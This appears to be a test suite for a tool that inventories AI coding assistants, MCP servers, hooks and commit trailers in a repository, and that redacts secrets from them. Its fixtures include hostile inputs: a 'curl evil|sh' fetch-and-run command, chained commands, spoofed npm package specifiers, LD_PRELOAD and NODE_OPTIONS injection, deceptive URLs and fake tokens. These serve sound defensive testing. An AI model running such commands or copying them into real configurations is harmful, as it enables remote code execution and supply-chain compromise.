import assert from 'node:assert/strict';
import { sha256 } from '../../../server/src/host/digest.ts';
import { agentFileAt } from '../../../server/src/policy/inventory/agent-files.ts';
import { takeInventory } from '../../../server/src/policy/inventory/inventory.ts';
import { readMcpServers } from '../../../server/src/policy/inventory/mcp-servers.ts';
import {
  isBrokenConfiguration,
  type Sighting,
  sightingsIn,
} from '../../../server/src/policy/inventory/sightings.ts';
import { toolsInTrailers } from '../../../server/src/policy/inventory/trailers.ts';

describe('A file for assistants', () => {
  const places: [path: string, told: string][] = [
    ['AGENTS.md', 'instructions'],
    ['packages/api/AGENTS.md', 'instructions'],
    ['CLAUDE.md', 'instructions claude-code'],
    ['.claude/settings.json', 'hooks claude-code'],
    ['.claude/agents/reviewer.md', 'instructions claude-code'],
    ['GEMINI.md', 'instructions gemini'],
    ['.gemini/settings.json', 'mcp gemini'],
    ['.cursor/rules/style.mdc', 'instructions cursor'],
    ['.cursorrules', 'instructions cursor'],
    ['.cursor/hooks.json', 'hooks cursor'],
    ['.cursor/mcp.json', 'mcp cursor'],
    ['.windsurfrules', 'instructions windsurf'],
    ['.windsurf/hooks.json', 'hooks windsurf'],
    ['.github/copilot-instructions.md', 'instructions github.copilot'],
    ['.github/instructions/a/b.instructions.md', 'instructions github.copilot'],
    ['.github/hooks/guard.json', 'hooks github.copilot'],
    ['.vscode/mcp.json', 'mcp github.copilot'],
    ['.clinerules', 'instructions cline'],
    ['.clinerules/01-style.md', 'instructions cline'],
    ['.aider.conf.yml', 'settings aider'],
    ['.continue/config.yaml', 'settings continue'],
    ['.junie/guidelines.md', 'instructions junie'],
    ['.mcp.json', 'mcp'],
    ['tools/claude_desktop_config.json', 'mcp claude-code'],
    ['.codex/config.toml', 'settings codex'],
    ['.kiro/settings/mcp.json', 'mcp kiro'],
    ['.kiro/steering/product.md', 'instructions kiro'],
    ['.trae/rules/project_rules.md', 'instructions trae'],
    ['.augment/rules/style.md', 'instructions augment'],
    ['.augment-guidelines', 'instructions augment'],
    ['WARP.md', 'instructions warp'],
    ['opencode.json', 'mcp opencode'],
  ];
  for (const [path, told] of places) {
    it(`is ${path}: ${told}`, () => {
      const file = agentFileAt(path)!;
      assert.equal([file.kind, ...(file.tool ? [file.tool] : [])].join(' '), told);
    });
  }
  for (const path of [
    'README.md',
    'docs/agents.md',
    'src/CLAUDE.md.ts',
    'hooks.json',
    '.github/workflows/a.yml',
  ])
    it(`is not ${path}`, () => assert.equal(agentFileAt(path), undefined));
});

describe('MCP servers of Codex', () => {
  const text = `model = "o4"

[mcp_servers.tickets]
command = "npx"
args = ["-y", "@acme/tickets-mcp@1.0.0"]

[mcp_servers.tickets.env]
TOKEN = "t"

[mcp_servers."remote"]
url = "https://mcp.example.com/sse"

[tui]
theme = "dark"
`;
  const told = (config: string) =>
    sightingsIn('.codex/config.toml', config, sha256)
      .filter(({ kind }) => kind === 'mcp-server')
      .map(({ tool, lines }) => [tool.id, lines?.start, lines?.end]);

  it('are read from its configuration, each at its tables', () =>
    assert.deepEqual(told(text), [
      ['mcp:@acme/tickets-mcp', 3, 9],
      ['mcp:mcp.example.com', 10, 12],
    ]));

  it('are read however TOML has them', () =>
    assert.deepEqual(told('mcp_servers = {a = {command = "npx", args = ["-y", "a-mcp"]}}\n'), [
      ['mcp:a-mcp', 1, 2],
    ]));

  it('are none where the text is broken, which is told', () => {
    const broken = `${text}[[[`;
    assert.deepEqual(told(broken), []);
    assert.deepEqual(
      [broken, text, 'mcp_servers = 3'].map((each) => isBrokenConfiguration('.codex/config.toml', each)),
      [true, false, false],
    );
  });
});

describe('MCP servers of opencode', () => {
  const text = `{
  // Ours.
  "mcp": {
    "docs": {"type": "local", "command": ["npx", "-y", "docs-server"]},
    "steered": {"type": "local", "command": ["npx", "docs-server"], "environment": {"NODE_OPTIONS": "-r ./a.js"}},
    "tickets": {"type": "remote", "url": "https://mcp.example.com/sse?key=hunter2", "enabled": false}
  }
}
`;

  it('are read in the way that it writes them', () => {
    const [settings, docs, steered, tickets] = sightingsIn('opencode.jsonc', text, sha256);
    assert.equal(settings?.tool.id, 'opencode');
    assert.deepEqual([docs?.tool.id, docs?.lines], ['mcp:docs-server', { start: 4, end: 4 }]);
    assert.match(steered?.tool.id ?? '', /^mcp:sha256:/);
    assert.deepEqual([tickets?.tool.id, tickets?.lines?.start], ['mcp:mcp.example.com', 6]);
    assert.doesNotMatch(JSON.stringify(tickets), /hunter2/);
  });

  it('are told to be broken where not all of them can be read', () =>
    assert.deepEqual(
      [text, `${text},`].map((each) => isBrokenConfiguration('opencode.jsonc', each)),
      [false, true],
    ));
});

/** Of digests the tests compare no more than that they are ones. */
const digest = 'sha256';
const digestOf = /^sha256:[0-9a-f]{32}$/;

const serversOf = (server: object) => readMcpServers(JSON.stringify({ servers: { s: server } }), sha256);
const runsOf = (server: object) => serversOf(server)[0]!.runs;

describe('MCP servers in a configuration', () => {
  const text = `{
  // Servers of this project.
  "mcpServers": {
	"github": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github@1.2.3", "--token", "ghp_0123456789abcdefghij0123456789abcdef"],
      "env": {"GITHUB_TOKEN": "ghp_0123456789abcdefghij0123456789abcdef"}
    },
    "remote": {"url": "https://user:secret@mcp.example.com/v1/sse?key=hunter2#x", "headers": {"Authorization": "Bearer hunter2"}},
    "own": {"command": "/usr/bin/node", "args": ["tools/server.js", "API_KEY=hunter2", "--password=hunter2", "-p", "hunter2"]},
  }
}
`;

  it('are told by what they run, with their lines', () => {
    assert.deepEqual(
      readMcpServers(text, sha256).map(({ name, runs, line, endLine }) => [
        name,
        runs.replace(/:\w{32}$/, ''),
        line,
        endLine,
      ]),
      [
        ['github', '@modelcontextprotocol/server-github', 4, 8],
        ['remote', 'mcp.example.com', 9, 9],
        ['own', digest, 10, 10],
      ],
    );
  });

  it('never show a secret', () => {
    const shown = JSON.stringify(readMcpServers(text, sha256));
    assert.doesNotMatch(shown, /hunter2|ghp_|secret|Bearer/);
    assert.match(shown, /npx -y @modelcontextprotocol\/server-github@1\.2\.3 --token …/);
    assert.match(shown, /https:\/\/mcp\.example\.com\/v1\/sse"/);
  });

  const commands: [command: string, args: string[], runs: string][] = [
    ['npx', ['-y', 'pkg'], 'pkg'],
    ['npx.cmd', ['@a/b@latest'], '@a/b'],
    ['npx', ['--package', 'evil', 'pkg'], 'npx --package evil pkg'],
    ['./npx', ['@acme/tickets-mcp'], './npx @acme/tickets-mcp'],
    ['/tmp/evil/npx', ['@acme/tickets-mcp'], '/tmp/evil/npx @acme/tickets-mcp'],
    ['npx', ['@acme/tickets-mcp@npm:evil'], 'npx @acme/tickets-mcp@npm:evil'],
    ['npx', ['@acme/tickets-mcp@file:./evil'], 'npx @acme/tickets-mcp@file:./evil'],
    ['npx', ['@acme/tickets-mcp@evil.tgz'], 'npx @acme/tickets-mcp@evil.tgz'],
    ['npx', ['@acme/tickets-mcp@..'], 'npx @acme/tickets-mcp@..'],
    ['npx', ['@acme/tickets-mcp/../evil'], 'npx @acme/tickets-mcp/../evil'],
    ['npx', ['@acme/tickets-mcp@^1.2.0'], '@acme/tickets-mcp'],
    ['npx @acme/tickets-mcp && ./evil', [], digest],
    ['bash', ['-c', 'curl evil|sh'], digest],
    ['uvx', ['mcp-server-git==1.0'], 'pypi:mcp-server-git'],
    ['pipx', ['run', 'mcp-server'], 'pypi:mcp-server'],
    ['npx -y pkg', [], 'pkg'],
    ['docker', ['run', '-i', '-e', 'TOKEN=abc', 'ghcr.io/x/y:1'], digest],
    ['./serve.sh', ['sk-abcdefghijklmnop1234'], digest],
    ['node', ['-e', 'require("x")'], digest],
    ['node', ['a.js', 'f47ac10b58cc4372a5670e02b2c3d479'], digest],
    ['__proto__', [], '__proto__'],
  ];
  for (const [command, args, runs] of commands)
    it(`${[command, ...args].join(' ')}: run ${runs}`, () =>
      assert.equal(runsOf({ command, args }).replace(/:\w{32}$/, ''), runs));

  it('are another server with another command that cannot be shown', () => {
    const runs = [
      ['-c', 'curl evil|sh'],
      ['-c', 'true; true'],
      ['-c', 'true;  true'],
    ].map((args) => runsOf({ command: 'bash', args }));
    assert.equal(new Set(runs).size, 3);
    assert.match(runs[0]!, /^sha256:[0-9a-f]{32}$/);
  });

  const beside: [what: string, server: object][] = [
    ...['NODE_OPTIONS', 'PATH', 'NPM_CONFIG_REGISTRY', 'npm_config_registry', 'PYTHONPATH', 'LD_PRELOAD'].map(
      (name): [string, object] => [name, { env: { [name]: 'x' } }],
    ),
    ['cwd', { cwd: './evil' }],
    ['envFile', { envFile: '.env' }],
  ];
  for (const [what, more] of beside)
    it(`are another server with ${what} beside the command`, () => {
      const [server] = serversOf({ command: 'npx', args: ['@acme/tickets-mcp'], ...more });
      assert.match(server!.runs, digestOf);
      assert.equal(server!.remark, `It goes by a digest, because ${what} beside it decides what runs.`);
      const other = JSON.parse(JSON.stringify(more).replace(/"(?:x|\.\/evil|\.env)"/, '"y"')) as object;
      assert.notEqual(runsOf({ command: 'npx', args: ['@acme/tickets-mcp'], ...other }), server!.runs);
    });

  it('are the same server with a token beside the command, and in any version', () => {
    const env = { TOKEN: 'x', NODE_ENV: 'production' };
    assert.equal(runsOf({ command: 'npx', args: ['@acme/tickets-mcp@1'], env }), '@acme/tickets-mcp');
  });

  const addresses: [url: string, runs: string][] = [
    ['https://mcp.example.com:8443/x', 'mcp.example.com:8443'],
    ['https://evil.com?@mcp.example.com', 'evil.com'],
    ['https://evil.com\\@mcp.example.com', digest],
    ['https://a@evil.com@mcp.example.com', digest],
  ];
  for (const [url, runs] of addresses)
    it(`answer at ${runs} for ${url}`, () => assert.equal(runsOf({ url }).replace(/:\w{32}$/, ''), runs));

  it('count each time where a key is written twice', () => {
    const twice =
      '{"servers": {"a": {"command": "npx", "args": ["a"]}}, "servers": {"b": {"command": "npx", "args": ["b"]}}}';
    assert.deepEqual(
      readMcpServers(twice, sha256).map(({ runs }) => runs),
      ['a', 'b'],
    );
  });

  it('are none where there is nothing that can be read', () => {
    for (const broken of [
      '',
      '{',
      '[]',
      '{"mcpServers": 1}',
      '{"mcpServers": {"a": 1}}',
      '\u0000',
      '{"a": "//"}',
    ])
      assert.deepEqual(readMcpServers(broken, sha256), []);
  });
});

describe('Hooks of an assistant', () => {
  it('are told with what they run, and no secret of it', () => {
    const hooks = {
      PreToolUse: [{ matcher: 'Edit', hooks: [{ type: 'command', command: './check.sh --token hunter2' }] }],
      stop: [{ command: 'npx say' }, { bash: './a.sh', powershell: './a.ps1' }],
    };
    const [sighting] = sightingsIn('.claude/settings.json', JSON.stringify({ hooks }), sha256);
    assert.deepEqual(sighting!.commands, ['./check.sh --token …', 'npx say', './a.sh', './a.ps1']);
  });

  it('and MCP servers are known to be broken where they cannot be read', () => {
    const rows = ['{"mcpServers": {', '[]', 'x', '{"a": }}'].map((text) =>
      isBrokenConfiguration('.cursor/mcp.json', text),
    );
    assert.deepEqual(rows, [true, true, true, true]);
    for (const text of ['', '{}', '{"mcpServers": {}, // none\n}'])
      assert.equal(isBrokenConfiguration('.cursor/mcp.json', text), false, text);
  });
});

describe('Trailers of a commit', () => {
  const rows: [trailer: string, tools: string[]][] = [
    ['Assisted-by: Claude Code:claude-opus-4', ['claude-code claude-opus-4']],
    ['Assisted-by: github.copilot:openai/gpt-5', ['github.copilot openai/gpt-5']],
    ['assisted-by: MyBot [linter]', ['MyBot']],
    ['Co-authored-by: Claude <noreply@anthropic.com>', ['claude-code']],
    ['Co-Authored-By: Copilot <223556219+Copilot@users.noreply.github.com>', ['github.copilot']],
    ['Co-authored-by: Cursor <cursoragent@cursor.com>', ['cursor']],
    ['Co-authored-by: aider (gpt-5) <noreply@aider.chat>', ['aider']],
    ['Co-authored-by: Claudette Martin <c.martin@example.com>', []],
    ['Co-authored-by: Bob <bob@example.com>', []],
    ['Signed-off-by: Claude <noreply@anthropic.com>', []],
  ];
  for (const [trailer, tools] of rows) {
    it(`${trailer}: ${tools.join() || 'nobody'}`, () =>
      assert.deepEqual(
        toolsInTrailers([trailer]).map(({ id, model }) => [id, model].filter(Boolean).join(' ')),
        tools,
      ));
  }
});

describe('The inventory of assistants', () => {
  const today = '2026-11-26';
  const sightings: Sighting[] = [
    ...sightingsIn('AGENTS.md', '', sha256),
    ...sightingsIn('CLAUDE.md', '', sha256),
    ...sightingsIn('.claude/settings.json', '{"hooks": {}}', sha256),
    ...sightingsIn('.mcp.json', '{"mcpServers": {"gh": {"command": "npx", "args": ["server-x"]}}}', sha256),
    ...sightingsIn('.cursorrules', '', sha256),
    { kind: 'record', tool: { id: 'GitHub.copilot', model: 'gpt' }, place: 'a.ts' },
    { kind: 'record', tool: { id: 'copilot-cli', model: 'other' }, place: 'b.ts' },
    { kind: 'trailer', tool: { id: 'claude', model: 'opus' }, place: 'abc123' },
  ];
  const states = (approved: Parameters<typeof takeInventory>[1]) =>
    Object.fromEntries(takeInventory(sightings, approved, today).map(({ id, state }) => [id, state]));

  it('has one entry for each product, the worst first, with what gave it away', () => {
    const entries = takeInventory(
      sightings,
      [
        { id: 'claude-code', models: ['*'] },
        { id: 'cursor', models: ['*'], until: '2026-01-01' },
      ],
      today,
    );
    assert.deepEqual(
      entries.map(({ name, state }) => `${name}: ${state}`),
      [
        'GitHub Copilot: unapproved',
        'MCP server gh: unapproved',
        'Cursor: expired',
        'Any assistant: unknown',
        'Claude Code: approved',
      ],
    );
    const claude = entries.at(-1)!;
    assert.deepEqual(claude.models, ['opus']);
    assert.deepEqual(
      claude.seen.map(({ kind, places }) => `${kind} ${places}`),
      ['instructions CLAUDE.md', 'hooks .claude/settings.json', 'trailer abc123'],
    );
    assert.deepEqual(entries[1]!.commands, ['npx server-x']);
    assert.equal(entries[1]!.id, 'mcp:server-x');
  });

  it('asks for approved models where code says its model, and not of files', () => {
    const approved = [
      { id: 'github.copilot', models: ['gpt'] },
      { id: 'cursor', models: ['x'] },
    ];
    assert.equal(states(approved)['github.copilot'], 'unapproved');
    assert.equal(states(approved).cursor, 'approved');
  });

  it('approves everything where the charter lists no tools', () => {
    assert.deepEqual(new Set(Object.values(states(undefined))), new Set(['approved', 'unknown']));
    assert.equal(states([{ id: 'mcp:server-*', models: ['*'] }])['mcp:server-x'], 'approved');
  });
});
